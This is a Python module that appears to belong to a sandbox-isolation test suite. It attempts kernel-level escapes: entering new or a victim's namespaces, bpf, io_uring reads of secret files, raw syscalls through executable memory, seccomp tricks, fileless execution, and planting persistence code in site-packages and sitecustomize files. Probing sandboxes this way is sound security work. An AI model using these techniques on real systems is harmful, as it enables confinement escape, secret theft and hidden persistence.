"""Attempts 32 to 39: the kernel's surface."""
NAMESPACES = {
    "user": 0x10000000, "mount": 0x00020000, "net": 0x40000000, "pid": 0x20000000,
    "ipc": 0x08000000, "uts": 0x04000000, "cgroup": 0x02000000,
}


@way(32, "unshare")
def _():
    return each(NAMESPACES.values(), lambda flag: in_child(lambda: call("unshare", flag)))


@way(32, "unshare with a new user")
def _():
    both = NAMESPACES["user"] | NAMESPACES["mount"]
    return in_child(lambda: call("unshare", both))


def born(child):
    if child == 0:
        os._exit(0)
    os.waitpid(child, 0)
    return "a child in a new namespace"


@way(32, "clone")
def _():
    return each(NAMESPACES.values(),
                lambda flag: born(call("clone", flag | signal.SIGCHLD, 0, 0, 0, 0)))


@way(32, "clone with a new user")
def _():
    return born(call("clone", NAMESPACES["user"] | signal.SIGCHLD, 0, 0, 0, 0))


@way(32, "clone3 with a new user")
def _():
    words = (ctypes.c_uint64 * 11)(NAMESPACES["user"], 0, 0, 0, signal.SIGCHLD)
    return born(call("clone3", words, ctypes.sizeof(words)))


@way(32, "join another's namespace")
def _():
    owners = [str(HOST["victim"]["pid"]), "1"]
    names = [("net", "net"), ("uts", "uts"), ("user", "user")]

    def join(pair):
        who, name = pair
        descriptor = os.open("/proc/%s/ns/%s" % (who, name), os.O_RDONLY)
        return in_child(lambda: call("setns", descriptor, NAMESPACES[name]))
    return each([(who, name) for who in owners for name, _ in names], join)


@way(33, "load a program into the kernel")
def _():
    BPF_MAP_CREATE = 0
    words = ctypes.create_string_buffer(struct.pack("IIII", 2, 4, 4, 1), 120)
    return call("bpf", BPF_MAP_CREATE, words, 120)


@way(33, "count events")
def _():
    # A clock in software, of its own process.
    words = ctypes.create_string_buffer(struct.pack("IIQ", 1, 112, 0), 112)
    return call("perf_event_open", words, 0, -1, -1, 0)


@way(33, "handle faults of pages")
def _():
    return call("userfaultfd", 1)


@way(33, "load another kernel")
def _():
    # With flags that do not exist, so that nothing is loaded or unloaded.
    return reached("kexec_load", [errno.EINVAL], 0, 0, 0, 0x0FF0FFF0)


@way(33, "load a module")
def _():
    return reached("init_module", [errno.EFAULT, errno.ENOEXEC, errno.EINVAL], 0, 0, b"")


@way(33, "touch ports")
def _():
    return call("iopl", 3)


@way(34, "a ring")
def _():
    words = ctypes.create_string_buffer(120)
    return call("io_uring_setup", 2, words)


@way(34, "open through a ring")
def _():
    IORING_OP_OPENAT, IORING_ENTER_GETEVENTS = 18, 1
    words = ctypes.create_string_buffer(120)
    ring = call("io_uring_setup", 2, words)
    import mmap
    value = lambda offset: struct.unpack_from("I", words.raw, offset)[0]
    tail, array = value(40 + 4), value(40 + 24)
    ready, entries = value(80 + 4), value(80 + 20)
    submit = mmap.mmap(ring, 4096, offset=0)
    slots = mmap.mmap(ring, 4096, offset=0x10000000)
    path = ctypes.create_string_buffer(HOST["secrets"][0].encode())
    slots[0:64] = struct.pack("BBHiQQIIQ24x", IORING_OP_OPENAT, 0, 0, -100, 0,
                              ctypes.addressof(path), 0, 0, 7)
    submit[array:array + 4] = struct.pack("I", 0)
    submit[tail:tail + 4] = struct.pack("I", 1)
    call("io_uring_enter", ring, 1, 1, IORING_ENTER_GETEVENTS, 0, 0)
    result = struct.unpack("i", submit[entries + 8:entries + 12])[0]
    if result < 0:
        raise OSError(-result, "ring")
    return os.read(result, 200).decode()


def machine_code(code):
    import mmap
    if platform.machine() != "x86_64":
        raise Absent("code for x86-64")
    page = mmap.mmap(-1, 4096, prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)
    page.write(code)
    return ctypes.CFUNCTYPE(ctypes.c_long)(ctypes.addressof(ctypes.c_char.from_buffer(page)))()


@way(35, "a call of 32 bits")
def _():
    # mov eax, 20 (getpid); int 0x80; ret
    result = machine_code(b"\xb8\x14\x00\x00\x00\xcd\x80\xc3")
    if result != os.getpid():
        raise OSError(-result if result < 0 else errno.ENOSYS, "int 0x80")
    return str(result)


@way(35, "a call of x32")
def _():
    # mov eax, 0x40000000 + 39 (getpid); syscall; ret
    result = machine_code(b"\xb8\x27\x00\x00\x40\x0f\x05\xc3")
    if result != os.getpid():
        raise OSError(-result & 0xFFFF, "x32")
    return str(result)


@way(36, "change the table of segments")
def _():
    room = ctypes.create_string_buffer(64)
    return call("modify_ldt", 0, room, 64)


@way(36, "make all that is read executable")
def _():
    READ_IMPLIES_EXEC = 0x0400000
    call("personality", READ_IMPLIES_EXEC)
    return "done"


def allow_all():
    step = ctypes.create_string_buffer(struct.pack("HBBI", 6, 0, 0, 0x7FFF0000), 8)
    return step, ctypes.create_string_buffer(struct.pack("HxxxxxxQ", 1, ctypes.addressof(step)))


@way(37, "a filter whose answers it gives itself")
def _():
    step, program = allow_all()
    LIBC.prctl(38, 1, 0, 0, 0)
    return call("seccomp", 1, 8, program)


@way(37, "another filter")
def _():
    step, program = allow_all()
    LIBC.prctl(38, 1, 0, 0, 0)
    call("prctl", 22, 2, program, 0, 0)
    return "installed"


@way(38, "execute what has no name")
def _():
    memory = call("memfd_create", b"program", 0)
    with open("/bin/true", "rb") as program:
        os.write(memory, program.read())
    child = os.fork()
    if child == 0:
        words = (ctypes.c_char_p * 2)(b"true", None)
        try:
            call("execveat", memory, b"", words, 0, 0x1000)
        except OSError as error:
            os._exit(error.errno)
        os._exit(99)
    status = os.waitstatus_to_exitcode(os.waitpid(child, 0)[1])
    if status:
        raise OSError(status, "execveat")
    return "executed"


@way(39, "the engine's environment")
def _():
    names = [name for name in os.environ
             if name.startswith(("LD_", "PYTHON")) and name != "PYTHONHASHSEED"]
    text = " ".join(os.environ[name] for name in os.environ)
    if HOST["mark"] not in text:
        raise Failed("only %s" % ", ".join(sorted(names)))
    return text[text.index(HOST["mark"]):]


@way(39, "plant code for the next interpreter")
def _():
    code = "import os; os.write(1, b'planted code runs')\n"
    version = "python%d.%d" % sys.version_info[:2]
    home = os.environ.get("HOME", ".")
    site = home + "/.local/lib/" + version + "/site-packages"
    os.makedirs(site)
    for path in (site + "/usercustomize.py", home + "/sitecustomize.py", home + "/os.py"):
        with open(path, "w") as file:
            file.write(code)
    with open(site + "/planted.pth", "w") as file:
        file.write(code)
    raise Absent("the host tells what the next one ran")
